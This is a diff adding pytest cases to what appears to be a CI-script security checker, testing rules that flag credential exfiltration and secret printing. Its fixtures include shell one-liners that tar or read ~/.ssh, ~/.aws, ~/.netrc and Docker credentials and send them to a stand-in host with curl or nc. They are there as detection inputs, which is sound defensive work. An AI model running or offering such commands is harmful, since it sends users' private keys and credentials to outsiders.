@@ -334,3 +334,43 @@ def test_a_secret_in_a_build_argument_stays_in_the_image() -> None:
 
 def test_a_token_pasted_into_an_address_is_left_behind() -> None:
     assert len(details("persists-credentials", "git clone https://x:${{ secrets.PAT }}@github.com/o/r.git")) == 1
+
+
+@pytest.mark.parametrize(
+    "script",
+    [
+        "tar cz ~/.ssh | curl -T - https://drop.example.com",
+        "tar cz $HOME/.aws | gzip | curl --data-binary @- https://drop.example.com",
+        "curl -F f=@$HOME/.ssh/id_rsa https://drop.example.com",
+        "curl -T ~/.netrc https://drop.example.com",
+        "base64 ~/.docker/config.json | nc drop.example.com 9000",
+    ],
+)
+def test_credentials_of_the_home_folder_that_are_sent(script: str) -> None:
+    assert len(details("secret-send", script)) == 1
+
+
+@pytest.mark.parametrize(
+    "script",
+    [
+        "tar cz dist | curl -T - https://drop.example.com",
+        "curl -T ~/.ssh/known_hosts https://drop.example.com",
+        "cat ~/.ssh/id_ed25519.pub | curl -T - https://keys.example.com",
+        "curl --netrc-file ~/.netrc -T dist.tgz https://files.example.com",
+        "tar cz ~/.ssh > x.tgz; cat dist | curl -T - https://files.example.com",
+    ],
+)
+def test_other_files_may_be_sent(script: str) -> None:
+    assert details("secret-send", script) == []
+
+
+def test_a_secret_that_printenv_answers_with_is_seen() -> None:
+    assert details("secret-print", 'echo "$(printenv TOKEN)"') == ["TOKEN"]
+    assert details("secret-print", 'echo "$(printenv DB_PASSWORD)"') == ["DB_PASSWORD"]
+    assert details("secret-print", 'X=$(printenv TOKEN); echo "$X"') == ["X"]
+    assert details("secret-print", 'echo "$(printenv HOME)"; X=$(printenv TOKEN)') == []
+
+
+def test_tee_prints_what_it_writes() -> None:
+    assert details("secret-print", 'tee .npmrc <<< "token=$TOKEN"') == ["TOKEN"]
+    assert details("secret-print", 'tee .npmrc <<< "token=$TOKEN" > /dev/null') == []
